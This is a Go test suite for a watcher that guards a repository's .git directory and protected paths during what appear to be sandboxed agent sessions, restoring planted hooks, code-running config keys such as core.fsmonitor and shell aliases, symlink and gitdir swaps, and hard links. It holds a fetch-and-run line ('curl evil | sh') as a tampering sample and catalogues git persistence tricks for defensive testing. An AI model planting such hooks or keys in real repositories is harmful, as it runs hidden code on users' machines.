//go:build linux

package integrity

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAllowedChangesStay runs what git does in ordinary work inside a
// session: nothing is restored and git's own file is left byte for byte.
func TestAllowedChangesStay(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.start()
	p.git("config", "user.email", "agent@example.com")
	p.git("remote", "add", "upstream", "https://example.com/upstream.git")
	p.git("branch", "feature")
	p.git("branch", "--set-upstream-to=origin/main", "feature")
	p.git("config", "--worktree", "user.name", "Agent") // without worktreeConfig: .git/config
	before := readFile(t, p.path(".git/config"))
	p.w.sync()
	if got := p.reported(); len(got) != 0 {
		t.Fatalf("restores reported for allowed changes: %v", got)
	}
	for key, want := range map[string]string{
		"user.email":            "agent@example.com",
		"user.name":             "Agent",
		"remote.upstream.url":   "https://example.com/upstream.git",
		"branch.feature.remote": "origin",
		"branch.feature.merge":  "refs/heads/main",
		"remote.origin.url":     p.origin,
		"core.logallrefupdates": "true",
	} {
		if got := p.git("config", "--get", key); got != want {
			t.Errorf("%s = %q, want %q", key, got, want)
		}
	}
	if after := readFile(t, p.path(".git/config")); after != before {
		t.Errorf("the watcher rewrote git's file:\n%s\nwas\n%s", after, before)
	}
	if events, err := p.w.Close(); err != nil || len(events) != 0 {
		t.Errorf("Close = %v, %v", events, err)
	}
}

// TestAllowedChangeWithForbiddenOne keeps the allowed part of a rewrite and
// drops the rest, also when the planted key is disguised by case, by the
// old [section.subsection] syntax and by a continuation line.
func TestAllowedChangeWithForbiddenOne(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.start()
	cfg := readFile(t, p.path(".git/config")) +
		"[user]\n\temail = agent@example.com\n" +
		"[CORE]\n\tFSMonitor = " + p.evil + "\n" +
		"[alias.X]\n\tst = \"!\\\n" + p.evil + "\"\n"
	plantFile(t, filepath.Join(p.base, "c"), cfg, 0o644)
	if err := os.Rename(filepath.Join(p.base, "c"), p.path(".git/config")); err != nil {
		t.Fatal(err)
	}
	p.waitEvent(".git/config", "forbidden keys alias.x.st, core.fsmonitor")
	p.w.sync()
	if got := p.git("config", "--get", "user.email"); got != "agent@example.com" {
		t.Errorf("user.email = %q", got)
	}
	for _, key := range []string{"core.fsmonitor", "alias.x.st"} {
		if out, err := gitTry(p.root, "config", "--get", key); err == nil {
			t.Errorf("%s still set: %s", key, out)
		}
	}
	p.runEverything()
	p.noMarker()
}

func TestInfoChangesUndone(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	exclude := readFile(t, p.path(".git/info/exclude"))
	p.start()
	plantFile(t, p.path(".git/info/attributes"), "* filter=lfs diff=evil\n", 0o644)
	p.waitEvent(".git/info/attributes", "created inside the cage")
	if err := os.WriteFile(p.path(".git/info/exclude"), []byte("*\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	p.waitEvent(".git/info/exclude", "modified")
	p.w.sync()
	if exists(p.path(".git/info/attributes")) {
		t.Error(".git/info/attributes still exists")
	}
	if got := readFile(t, p.path(".git/info/exclude")); got != exclude {
		t.Errorf("exclude = %q, want %q", got, exclude)
	}
}

func TestHookDeletedIsRestored(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	writeFile(t, p.path(".git/hooks/pre-push"), benignHook, 0o750)
	p.start()
	if err := os.Remove(p.path(".git/hooks/pre-push")); err != nil {
		t.Fatal(err)
	}
	p.waitEvent(".git/hooks/pre-push", "deleted")
	if err := os.Rename(p.path(".git/hooks"), filepath.Join(p.base, "hooks-moved")); err != nil {
		t.Fatal(err)
	}
	p.waitEvent(".git/hooks", "deleted")
	p.w.sync()
	fi, err := os.Stat(p.path(".git/hooks/pre-push"))
	if err != nil || fi.Mode().Perm() != 0o750 || readFile(t, p.path(".git/hooks/pre-push")) != benignHook {
		t.Errorf("pre-push not restored as it was: %v %v", fi, err)
	}
	if !exists(p.path(".git/hooks/pre-commit.sample")) {
		t.Error("the samples were not restored")
	}
}

// TestConfigSymlinkRestored: a config that becomes a symlink is put back
// as the file it was.
func TestConfigSymlinkRestored(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	before := readFile(t, p.path(".git/config"))
	p.start()
	evil := filepath.Join(p.base, "evilconfig")
	writeFile(t, evil, before+"[core]\n\tfsmonitor = "+p.evil+"\n", 0o644)
	if err := os.Symlink(evil, p.path(".git/config.link")); err != nil {
		t.Fatal(err)
	}
	exchange(t, p.path(".git/config.link"), p.path(".git/config"))
	p.waitEvent(".git/config", "replaced by a symlink")
	p.w.sync()
	fi, err := os.Lstat(p.path(".git/config"))
	if err != nil || !fi.Mode().IsRegular() {
		t.Fatalf(".git/config is %v (%v)", fi, err)
	}
	if got := readFile(t, p.path(".git/config")); got != before {
		t.Errorf("config = %q, want %q", got, before)
	}
	p.runEverything()
	p.noMarker()
}

// TestGitDirSwappedForGitFile: .git replaced by a "gitdir: …" file naming
// a repository the cage prepared.
func TestGitDirSwappedForGitFile(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.start()
	evil := filepath.Join(p.base, "evilrepo")
	git(t, p.base, "clone", "-q", p.root, evil)
	writeFile(t, filepath.Join(evil, ".git/hooks/pre-commit"), p.evilHook(), 0o755)
	plantFile(t, p.path("gitfile"), "gitdir: "+filepath.Join(evil, ".git")+"\n", 0o644)
	exchange(t, p.path("gitfile"), p.path(".git"))
	p.waitEvent(".git", "replaced by a file")
	p.w.sync()
	p.runEverything()
	p.noMarker()
}

// TestNewRepositoryInCage: a project with no repository at entry, where
// the cage runs git init and plants a hook.
func TestNewRepositoryInCage(t *testing.T) {
	t.Parallel()
	needGit(t)
	p := &project{t: t, base: t.TempDir()}
	p.root = filepath.Join(p.base, "proj")
	p.store = filepath.Join(p.base, "store")
	p.marker = filepath.Join(p.base, "MARKER")
	if err := os.Mkdir(p.root, 0o755); err != nil {
		t.Fatal(err)
	}
	p.start()
	git(t, p.root, "init", "-q")
	git(t, p.root, "config", "user.email", "agent@example.com")
	plantFile(t, p.path(".git/hooks/pre-commit"), p.evilHook(), 0o755)
	p.waitEvent(".git/hooks/pre-commit", "created inside the cage")
	p.git("config", "core.hooksPath", ".githooks")
	p.waitEvent(".git/config", "forbidden key core.hookspath")
	p.w.sync()
	if !exists(p.path(".git/hooks/pre-commit.sample")) || !exists(p.path(".git/info/exclude")) {
		t.Error("what git init wrote was removed")
	}
	if got := p.git("config", "--get", "user.email"); got != "agent@example.com" {
		t.Errorf("the new repository's config lost user.email: %q", got)
	}
	writeFile(t, p.path("f"), "x\n", 0o644)
	p.git("add", "f")
	p.git("commit", "-q", "-m", "x")
	p.noMarker()

	// A "gitdir: …" file instead of a directory is refused outright.
	plantFile(t, p.path("gitfile"), "gitdir: "+p.path("elsewhere")+"\n", 0o644)
	exchange(t, p.path("gitfile"), p.path(".git"))
	p.waitEvent(".git", "gitdir file created inside the cage")
}

// TestChangesBeforeStartLeftAlone: what the user set up outside before
// the session is the snapshot, even code-running keys.
func TestChangesBeforeStartLeftAlone(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	writeFile(t, p.path(".git/hooks/pre-commit"), p.evilHook(), 0o755)
	p.git("config", "core.pager", "cat")
	p.git("config", "alias.st", "status")
	config := readFile(t, p.path(".git/config"))
	p.start()
	p.w.sync()
	events, err := p.w.Close()
	if err != nil || len(events) != 0 || len(p.reported()) != 0 {
		t.Fatalf("restores of the user's own state: %v %v", events, err)
	}
	if got := readFile(t, p.path(".git/config")); got != config {
		t.Errorf("config changed:\n%s", got)
	}
	p.runEverything()
	if !exists(p.marker) {
		t.Error("the user's own hook did not run")
	}
}

// TestSnapshotReplacesPrevious: edits made between sessions are kept.
func TestSnapshotReplacesPrevious(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	w := p.start()
	if _, err := w.Close(); err != nil {
		t.Fatal(err)
	}
	writeFile(t, p.path(".git/hooks/pre-commit"), benignHook, 0o755)
	p.git("config", "core.hooksPath", ".git/hooks")
	p.start()
	p.w.sync()
	if events, err := p.w.Close(); err != nil || len(events) != 0 {
		t.Fatalf("second session restored the user's edits: %v %v", events, err)
	}
	if !exists(p.path(".git/hooks/pre-commit")) {
		t.Error("hook removed")
	}
}

// TestCloseVerifiesEverything: with no events and no ticks, Close alone
// finds and restores the change, and LastSession reports it.
func TestCloseVerifiesEverything(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	w := p.startWith(options{})
	writeFile(t, p.path(".git/hooks/post-checkout"), p.evilHook(), 0o755)
	p.git("config", "core.fsmonitor", p.evil)
	events, err := w.Close()
	if err != nil {
		t.Fatal(err)
	}
	if exists(p.path(".git/hooks/post-checkout")) {
		t.Error("hook left in place")
	}
	var lines []string
	for _, e := range events {
		lines = append(lines, e.String())
	}
	want := []string{
		"restored .git/config (forbidden key core.fsmonitor)",
		"restored .git/hooks/post-checkout (created inside the cage)",
	}
	if strings.Join(lines, "\n") != strings.Join(want, "\n") {
		t.Errorf("events:\n%s\nwant\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
	last, err := LastSession(p.store)
	if err != nil || len(last) != len(events) {
		t.Fatalf("LastSession = %v, %v", last, err)
	}
	for i := range last {
		if last[i].String() != events[i].String() || !last[i].Time.Equal(events[i].Time) {
			t.Errorf("LastSession[%d] = %v, want %v", i, last[i], events[i])
		}
	}
	p.runEverything()
	p.noMarker()
}

// A session without restores after one with them empties the log; a
// second one without writes nothing.
func TestLastSessionQuietSessions(t *testing.T) {
	p := newProject(t)
	w := p.startWith(options{})
	writeFile(t, p.path(".git/hooks/post-checkout"), p.evilHook(), 0o755)
	if _, err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if last, _ := LastSession(p.store); len(last) != 1 {
		t.Fatalf("LastSession after a restore = %v", last)
	}
	log := filepath.Join(p.store, sessionLogName)
	for round := 0; round < 2; round++ {
		old := time.Now().Add(-time.Hour)
		os.Chtimes(log, old, old)
		if _, err := p.startWith(options{}).Close(); err != nil {
			t.Fatal(err)
		}
		last, err := LastSession(p.store)
		if err != nil || len(last) != 0 {
			t.Fatalf("round %d: LastSession after a quiet session = %v, %v", round, last, err)
		}
		fi, err := os.Stat(log)
		if err != nil {
			t.Fatal(err)
		}
		if written := !fi.ModTime().Equal(old); written != (round == 0) {
			t.Errorf("round %d: the log was written: %v", round, written)
		}
	}
}

func TestLastSessionWithoutSessions(t *testing.T) {
	events, err := LastSession(filepath.Join(t.TempDir(), "none"))
	if err != nil || events != nil {
		t.Errorf("LastSession = %v, %v", events, err)
	}
}

// TestStoreLayout: the store is private to the user.
func TestStoreLayout(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	w := p.start()
	if _, err := w.Close(); err != nil {
		t.Fatal(err)
	}
	err := filepath.Walk(p.store, func(path string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		want := os.FileMode(0o600)
		if fi.IsDir() {
			want = 0o700
		}
		if fi.Mode().Perm() != want {
			t.Errorf("%s is %v, want %v", path, fi.Mode().Perm(), want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{manifestName, sessionLogName, blobDir} {
		if !exists(filepath.Join(p.store, name)) {
			t.Errorf("store lacks %s", name)
		}
	}
	if exists(filepath.Join(p.store, runningName)) {
		t.Error("store still marked running after Close")
	}
}

// TestUncleanEnd: a supervisor killed mid-session leaves the store marked
// running; the next session restores the old snapshot before taking its
// own.
func TestUncleanEnd(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	w := p.startWith(options{})
	w.abandon()
	writeFile(t, p.path(".git/hooks/pre-commit"), p.evilHook(), 0o755)
	p.events = nil
	p.start()
	p.waitEvent(".git/hooks/pre-commit", "created inside the cage, found after the last session ended uncleanly")
	if exists(p.path(".git/hooks/pre-commit")) {
		t.Error("hook left in place")
	}
}

// TestConcurrentSessions: two sessions of one project share the snapshot,
// both restore, and the store is clean after the last one ends.
func TestConcurrentSessions(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	w1 := p.start()
	set, err := ProtectedSet(p.root, nil)
	if err != nil {
		t.Fatal(err)
	}
	w2, err := Start(p.store, set, p.onEvent) // either session may restore first
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	p.git("config", "user.email", "one@example.com")
	plantFile(t, p.path(".git/hooks/pre-commit"), p.evilHook(), 0o755)
	p.git("config", "core.pager", p.evil)
	p.waitEvent(".git/config", "forbidden key core.pager")
	w1.sync()
	w2.sync()
	if exists(p.path(".git/hooks/pre-commit")) {
		t.Error("hook left in place")
	}
	if got := p.git("config", "--get", "user.email"); got != "one@example.com" {
		t.Errorf("user.email = %q", got)
	}
	if _, err := w1.Close(); err != nil {
		t.Fatal(err)
	}
	if !exists(filepath.Join(p.store, runningName)) {
		t.Error("store not marked running while the second session runs")
	}
	if _, err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	if exists(filepath.Join(p.store, runningName)) {
		t.Error("store still marked running after both sessions")
	}
	p.runEverything()
	p.noMarker()
}

// TestProtectPaths: [protect] paths are kept byte for byte; a missing one
// that appears is removed; a directory is protected recursively.
func TestProtectPaths(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	writeFile(t, p.path(".envrc"), "export A=1\n", 0o644)
	writeFile(t, p.path("tools/run.sh"), "#!/bin/sh\n", 0o755)
	p.start(".envrc", ".tool-versions", "tools")
	writeFile(t, p.path(".envrc"), "curl evil | sh\n", 0o644)
	p.waitEvent(".envrc", "modified")
	plantFile(t, p.path(".tool-versions"), "evil 1\n", 0o644)
	p.waitEvent(".tool-versions", "created inside the cage")
	plantFile(t, p.path("tools/new.sh"), "#!/bin/sh\n", 0o755)
	p.waitEvent("tools/new.sh", "created inside the cage")
	if err := os.Chmod(p.path("tools/run.sh"), 0o777); err != nil {
		t.Fatal(err)
	}
	p.waitEvent("tools/run.sh", "mode changed")
	p.w.sync()
	if got := readFile(t, p.path(".envrc")); got != "export A=1\n" {
		t.Errorf(".envrc = %q", got)
	}
	if exists(p.path(".tool-versions")) || exists(p.path("tools/new.sh")) {
		t.Error("a created path survived")
	}
	// Other files in the project are the cage's to change.
	writeFile(t, p.path("src/main.go"), "package main\n", 0o644)
	p.w.sync()
	if !exists(p.path("src/main.go")) {
		t.Error("an unprotected file was removed")
	}
}

// TestHardLinkedHook: a hard link made to a hook from the project would let
// the cage rewrite the hook without an event in .git/hooks; the watch on
// the hook itself sees the link made, and the restore breaks it.
func TestHardLinkedHook(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	writeFile(t, p.path(".git/hooks/pre-commit"), benignHook, 0o755)
	p.start()
	if err := os.Link(p.path(".git/hooks/pre-commit"), p.path("innocent")); err != nil {
		t.Fatal(err)
	}
	p.waitEvent(".git/hooks/pre-commit", "hard-linked from elsewhere")
	p.w.sync()
	writeFile(t, p.path("innocent"), p.evilHook(), 0o755)
	p.runEverything()
	p.noMarker()
}

// TestPeriodicVerification: with no inotify at all, the periodic pass
// alone finds and restores a change.
func TestPeriodicVerification(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.startWith(options{tick: 50 * time.Millisecond})
	plantFile(t, p.path(".git/hooks/pre-commit"), p.evilHook(), 0o755)
	p.waitEvent(".git/hooks/pre-commit", "created inside the cage")
}

// TestRestoreDoesNotFollowSymlinks: with .git and .git/hooks swapped for
// symlinks to directories outside, the restore writes nothing there.
func TestRestoreDoesNotFollowSymlinks(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	p.start()
	victim := filepath.Join(p.base, "victim")
	writeFile(t, filepath.Join(victim, "pre-commit.sample"), "victim\n", 0o600)
	writeFile(t, filepath.Join(victim, "config"), "victim\n", 0o600)
	if err := os.Symlink(victim, p.path(".git/hooks-link")); err != nil {
		t.Fatal(err)
	}
	exchange(t, p.path(".git/hooks-link"), p.path(".git/hooks"))
	p.waitEvent(".git/hooks", "replaced by a symlink")
	if err := os.Symlink(victim, p.path("git-link")); err != nil {
		t.Fatal(err)
	}
	exchange(t, p.path("git-link"), p.path(".git"))
	p.waitEvent(".git", "replaced by a symlink")
	p.w.sync()
	entries, err := os.ReadDir(victim)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 2 {
		t.Errorf("the restore wrote into the symlink's target: %v", entries)
	}
	for _, name := range []string{"pre-commit.sample", "config"} {
		if got := readFile(t, filepath.Join(victim, name)); got != "victim\n" {
			t.Errorf("%s overwritten: %q", name, got)
		}
	}
	for _, dir := range []string{".git", ".git/hooks"} {
		if fi, err := os.Lstat(p.path(dir)); err != nil || !fi.IsDir() {
			t.Errorf("%s is %v, %v", dir, fi, err)
		}
	}
}
